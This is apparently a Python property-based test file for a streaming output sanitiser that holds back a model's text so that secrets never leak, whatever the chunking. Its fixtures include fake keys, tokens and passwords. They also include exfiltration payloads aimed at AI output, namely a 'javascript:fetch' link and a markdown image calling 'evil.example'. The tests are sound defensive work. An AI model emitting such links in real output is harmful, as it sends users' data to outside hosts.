"""A model's text on its way out: in whatever pieces it comes the same leaves, and never a secret."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appliance.guard.holdback import Holdback
from appliance.guard.sanitising import Sanitiser

KEY = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBxx. yy\n1234\n-----END EC PRIVATE KEY-----"
SECRETS = {
    "a private key": (KEY, "MHcCAQEEIBxx"),
    "a private key cut short": (KEY[:50], "MHcCAQEE"),
    "a token": ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghij", "eyJzdWIiOiIxMjM0NTY3ODkwIn0"),
    "a key of a cloud": ("AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    "a bearer": ("Authorization: Bearer abcdefghijklmnop1234", "abcdefghijklmnop1234"),
    "a password": ("The password is hunter2!x", "hunter2!x"),
    "a password on the next line": ("password:\nhunter2!x", "hunter2!x"),
    "a password in an address": ("postgresql://outpost:" + "s3cret-0@db/x", "s3cret-0"),
    "nothing but chance": ("x7Kq9ZbT2mWc4RvN8sLd1FhG5jYp3Xe0", "x7Kq9ZbT2mWc4RvN8sLd1FhG5jYp3Xe0"),
    "a link that runs": ("javascript:fetch('//evil')", "javascript:"),
    "a link into the plant": ("https://10.0.0.7/open", "10.0.0.7"),
    "a picture that tells": ("![x](https://evil.example/p?q=47)", "evil.example"),
}


def released(pieces: Sequence[str]) -> str:
    holding = Holdback(Sanitiser().leaking)
    return "".join([*(holding.feed(piece) for piece in pieces), holding.end()])


def cut(text: str, at: Sequence[int]) -> list[str]:
    places = sorted({0, len(text), *(one % (len(text) + 1) for one in at)})
    return [text[a:b] for a, b in pairwise(places)]


@pytest.mark.parametrize("name", SECRETS)
@given(
    before=st.sampled_from(["", "The pump stops at 4 bar. ", "Say: ", "One line\n", "5.5 "]),
    after=st.sampled_from(["", " That is all.", "\nClose V-31. Then wait", " and so on"]),
    at=st.lists(st.integers(0, 400), max_size=12),
)
def test_a_secret_in_any_pieces_never_leaves(name: str, before: str, after: str, at: list[int]) -> None:
    said, secret = SECRETS[name]
    text = f"{before}{said}{after}"
    holding = Holdback(Sanitiser().leaking)
    out = ""

    for piece in cut(text, at):
        out += holding.feed(piece)
        assert secret not in out
    out += holding.end()

    assert secret not in out
    assert out == released([text])
    assert out.startswith(before)


@given(st.text(alphabet="aB1 .!?\n-:@/=é", max_size=300), st.lists(st.integers(0, 300), max_size=20))
def test_in_whatever_pieces_it_comes_the_same_leaves(text: str, at: list[int]) -> None:
    assert released(cut(text, at)) == released([text])


@given(st.text(alphabet="aBc1 .!?\n", max_size=200))
def test_what_is_harmless_leaves_whole(text: str) -> None:
    assert released(list(text)) == text


def test_a_sentence_leaves_as_soon_as_it_has_ended() -> None:
    holding = Holdback(Sanitiser().leaking)

    assert holding.feed("The pump stops") == ""
    assert holding.feed(" at 4.6 bar. The ") == "The pump stops at 4.6 bar. "
    assert holding.end() == "The "
